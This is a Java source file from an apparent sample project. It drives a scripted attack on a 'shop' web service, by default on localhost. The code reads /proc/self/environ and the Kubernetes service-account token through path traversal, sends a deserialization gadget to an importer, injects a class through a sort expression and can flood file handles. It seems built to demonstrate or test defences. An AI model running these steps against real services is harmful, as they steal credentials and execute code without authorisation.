package whorl.samples.attack;

import java.io.IOException;
import java.net.URI;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;

/**
 * Attacks the shop and prints what came of it, a numbered line for each step.
 *
 * <pre>
 * java -jar attack.jar [--target http://127.0.0.1:8080] [--steps environment,token,import,class]
 *     [--drop /dev/shm,/tmp] [--lookup localhost] [--flood-seconds 5]
 * </pre>
 *
 * Exit status: 0 when every step got an answer, be it a refusal; 1 when one did not; 2 for wrong
 * usage.
 */
public final class Attack {
  private static final int FLOOD_MAX_SECONDS = 60;

  /** The steps, in the order in which an intruder takes them. */
  enum Step {
    /** Reads the environment through the file view. */
    ENVIRONMENT,
    /** Reads the pod's service-account token through the file view. */
    TOKEN,
    /** Sends the importer an object of a class that gadget chains begin with. */
    IMPORT,
    /** Defines a class of its own in the JVM through the sort expression, and runs it. */
    CLASS,
    /** The same, to open very many files; only when named. */
    FLOOD
  }

  private URI target = URI.create("http://127.0.0.1:8080");
  private List<Step> steps = List.of(Step.ENVIRONMENT, Step.TOKEN, Step.IMPORT, Step.CLASS);
  private String folders = "/dev/shm,/tmp";
  private String host = "localhost";
  private int floodSeconds = 5;
  private int printed;

  private Attack() {}

  public static void main(String[] args) {
    Attack attack = new Attack();
    try {
      attack.read(args);
    } catch (IllegalArgumentException e) {
      System.err.println("attack: " + e.getMessage());
      System.exit(2);
    }
    System.exit(attack.run() ? 0 : 1);
  }

  private void read(String[] args) {
    if (args.length % 2 != 0) {
      throw new IllegalArgumentException("a value is missing after " + args[args.length - 1]);
    }
    for (int i = 0; i < args.length; i += 2) {
      String value = args[i + 1];
      switch (args[i]) {
        case "--target" -> target = URI.create(value);
        case "--steps" -> steps = steps(value);
        case "--drop" -> folders = word(value);
        case "--lookup" -> host = word(value);
        case "--flood-seconds" ->
            floodSeconds = Math.min(FLOOD_MAX_SECONDS, Integer.parseInt(value));
        default -> throw new IllegalArgumentException("no such option: " + args[i]);
      }
    }
  }

  private static List<Step> steps(String words) {
    List<Step> steps = new ArrayList<>();
    for (String word : words.split(",", -1)) {
      steps.add(Step.valueOf(word.strip().toUpperCase(Locale.ROOT)));
    }
    return steps;
  }

  /** Goes into an expression between quotes, so it may hold none. */
  private static String word(String value) {
    if (value.indexOf('\'') >= 0) {
      throw new IllegalArgumentException("a quote in " + value);
    }
    return value;
  }

  private boolean run() {
    ShopClient shop = new ShopClient(target);
    boolean answered = true;
    for (Step step : steps) {
      try {
        switch (step) {
          case ENVIRONMENT -> say(view(shop, "/proc/self/environ", "the environment"));
          case TOKEN ->
              say(
                  view(
                      shop,
                      "/var/run/secrets/kubernetes.io/serviceaccount/token",
                      "the service-account token"));
          case IMPORT -> say(shop.importObject(Gadget.harmless()));
          case CLASS -> {
            Payload payload = Payload.fresh();
            say("defined " + payload.className() + " at run time through the sort expression");
            payload.run(shop, folders, host).lines().forEach(this::say);
          }
          case FLOOD -> say(Payload.fresh().flood(shop, floodSeconds * 1000));
        }
      } catch (IOException e) {
        say(step.name().toLowerCase(Locale.ROOT) + ": no answer: " + e.getMessage());
        answered = false;
      } catch (InterruptedException e) {
        Thread.currentThread().interrupt();
        return false;
      }
    }
    return answered;
  }

  private static String view(ShopClient shop, String path, String what)
      throws IOException, InterruptedException {
    byte[] content = shop.view("../../../../../.." + path);
    return content == null
        ? "looked for " + what + " in " + path + ": not there"
        : "read " + what + " from " + path + ": " + content.length + " bytes";
  }

  private void say(String line) {
    printed++;
    System.out.println(printed + ". " + line);
  }
}
